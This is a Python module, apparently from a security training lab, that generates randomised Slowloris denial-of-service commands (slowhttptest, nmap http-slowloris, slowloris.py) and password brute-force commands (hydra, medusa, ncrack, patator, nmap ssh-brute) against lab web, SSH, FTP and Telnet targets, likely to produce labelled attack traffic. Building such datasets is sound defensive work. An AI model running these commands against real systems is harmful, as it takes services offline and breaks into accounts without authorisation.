"""The modes of Slowloris and of the dictionary attack: those that need whole connections and patience."""

# ruff: noqa: E501 - a command stands on one line, as one types it

from __future__ import annotations

from training.lab.attacks import Field, Run, mode
from training.lab.habits import port

# Denial of service: slow HTTP


@mode("Slowloris")
def slow_headers(f: Field) -> Run:
    n = f.rng.randint(100, 350)
    return (
        "slowhttptest -H",
        f"slowhttptest -H -c {n} -r {f.rng.choice([20, 50])} -i {f.rng.choice([1, 3, 5])} -x {f.rng.choice([10, 24])} -l 16 -u {f.web()}/ -p 3",
        [f.at("web")],
        20,
    )


@mode("Slowloris")
def slow_body(f: Field) -> Run:
    n = f.rng.randint(80, 300)
    return (
        "slowhttptest -B",
        f"slowhttptest -B -c {n} -r {f.rng.choice([20, 60])} -i {f.rng.choice([1, 2, 4])} -s {f.rng.choice([4096, 8192])} -x 10 -l 16 -u {f.web()}/app/upload -p 3",
        [f.at("web")],
        20,
    )


@mode("Slowloris")
def slow_nmap(f: Field) -> Run:
    n = f.rng.randint(80, 200)
    args = f"http-slowloris.send_interval={f.rng.choice([1, 2, 4])}s,http-slowloris.timelimit=14s"
    return (
        "nmap http-slowloris",
        f"nmap -n -Pn -p {f.web_port} --script http-slowloris --script-args {args} --max-parallelism {n} {f.at('web')}",
        [f.at("web")],
        20,
    )


@mode("Slowloris")
def slow_plain(f: Field) -> Run:
    command = f"python3 -E {{here}}/slowloris.py {f.at('web')} {f.web_port} --sockets {f.rng.randint(60, 250)} --pause {f.rng.choice([1, 2, 4])} --seconds 15"
    return "slowloris.py", command, [f.at("web")], 20


@mode("Slowloris", six=True)
def slow_headers_six(f: Field) -> Run:
    command = f"python3 -E {{here}}/slowloris.py {f.at('web', True)} {f.web_port} --sockets {f.rng.randint(60, 200)} --pause {f.rng.choice([1, 3])} --seconds 14"
    return "slowloris.py IPv6", command, [f.at("web", True)], 20


@mode("Slowloris", "demo")
def slow_read(f: Field) -> Run:
    n = f.rng.randint(60, 120)
    return (
        "slowhttptest -X",
        f"slowhttptest -X -c {n} -r 30 -w 10 -y 20 -n 2 -z 8 -k 1 -l 10 -u {f.web()}/big.bin -p 3",
        [f.at("web")],
        14,
    )


@mode("Slowloris", "demo")
def slow_headers_tls(f: Field) -> Run:
    command = f"slowhttptest -H -c {f.rng.randint(40, 60)} -r 30 -i 2 -x 40 -l 11 -u https://{f.at('web')}/ -p 3"
    return "slowhttptest -H, TLS", command, [f.at("web")], 14


# Brute force


def _login(f: Field, service: str) -> tuple[str, int]:
    return f.at("files"), port(f.capture, "files", service)


@mode("Dictionary Attack")
def dict_hydra_ssh(f: Field) -> Run:
    v, number = _login(f, "ssh")
    return "hydra ssh", f"hydra -I -L {f.users()} -P {f.passwords(80)} -t {f.rng.choice([2, 4, 8])} -s {number} {v} ssh", [v], 15


@mode("Dictionary Attack")
def dict_hydra_ftp(f: Field) -> Run:
    v, number = _login(f, "ftp")
    return (
        "hydra ftp",
        f"hydra -I -l {f.capture.user} -P {f.passwords(300)} -t {f.rng.choice([4, 16])} -s {number} {v} ftp",
        [v],
        15,
    )


@mode("Dictionary Attack")
def dict_hydra_telnet(f: Field) -> Run:
    v, number = _login(f, "telnet")
    return (
        "hydra telnet",
        f"hydra -I -L {f.users()} -P {f.passwords(100)} -t {f.rng.choice([4, 8])} -s {number} {v} telnet",
        [v],
        15,
    )


@mode("Dictionary Attack")
def dict_hydra_http(f: Field) -> Run:
    command = f"hydra -I -l {f.capture.user} -P {f.passwords(600)} -t {f.rng.choice([2, 8])} -s {f.web_port} {f.at('web')} http-get /admin/"
    return "hydra http-get", command, [f.at("web")], 10


@mode("Dictionary Attack")
def dict_medusa_ssh(f: Field) -> Run:
    v, number = _login(f, "ssh")
    return (
        "medusa ssh",
        f"medusa -h {v} -n {number} -U {f.users()} -P {f.passwords(60)} -t {f.rng.choice([2, 5])} -M ssh",
        [v],
        15,
    )


@mode("Dictionary Attack")
def dict_medusa_ftp(f: Field) -> Run:
    v, number = _login(f, "ftp")
    return (
        "medusa ftp",
        f"medusa -h {v} -n {number} -u {f.capture.user} -P {f.passwords(200)} -t {f.rng.choice([3, 8])} -M ftp",
        [v],
        14,
    )


@mode("Dictionary Attack")
def dict_ncrack_ssh(f: Field) -> Run:
    v, number = _login(f, "ssh")
    return (
        "ncrack ssh",
        f"ncrack -T{f.rng.choice([3, 4])} --user admin,root,{f.capture.user} -P {f.passwords(100)} ssh://{v}:{number}",
        [v],
        15,
    )


@mode("Dictionary Attack")
def dict_ncrack_http(f: Field) -> Run:
    command = f"ncrack -T4 --user admin,{f.capture.user} -P {f.passwords(300)} http://{f.at('web')}:{f.web_port},path=/admin/"
    return "ncrack http", command, [f.at("web")], 12


@mode("Dictionary Attack")
def dict_hydra_fast(f: Field) -> Run:
    v, number = _login(f, "ssh")
    return "hydra ssh -t 16", f"hydra -I -l root -P {f.passwords(400)} -t 16 -s {number} {v} ssh", [v], 15


@mode("Dictionary Attack")
def dict_medusa_http(f: Field) -> Run:
    command = f"medusa -h {f.at('web')} -n {f.web_port} -u {f.capture.user} -P {f.passwords(300)} -t {f.rng.choice([2, 6])} -M http -m DIR:/admin/"
    return "medusa http", command, [f.at("web")], 12


@mode("Dictionary Attack")
def dict_ncrack_ftp(f: Field) -> Run:
    v, number = _login(f, "ftp")
    return (
        "ncrack ftp",
        f"ncrack -T{f.rng.choice([3, 4])} --user admin,{f.capture.user} -P {f.passwords(200)} ftp://{v}:{number}",
        [v],
        14,
    )


@mode("Dictionary Attack", six=True)
def dict_hydra_six(f: Field) -> Run:
    v = f.at("files", True)
    return (
        "hydra -6 ssh",
        f"hydra -6 -I -L {f.users()} -P {f.passwords(60)} -t 4 -s {port(f.capture, 'files', 'ssh')} {v} ssh",
        [v],
        14,
    )


@mode("Dictionary Attack", "demo")
def dict_patator_ftp(f: Field) -> Run:
    v, number = _login(f, "ftp")
    command = f"patator ftp_login host={v} port={number} user=FILE0 password=FILE1 0={f.users()} 1={f.passwords(60)} -t 6"
    return "patator ftp_login", command, [v], 10


@mode("Dictionary Attack", "demo")
def dict_nmap_ssh(f: Field) -> Run:
    v, number = _login(f, "ssh")
    args = f"userdb={f.users()},passdb={f.passwords(40)},brute.firstonly=false"
    return "nmap ssh-brute", f"nmap -n -Pn -p {number} --script +ssh-brute --script-args {args},ssh-brute.timeout=4s {v}", [v], 12
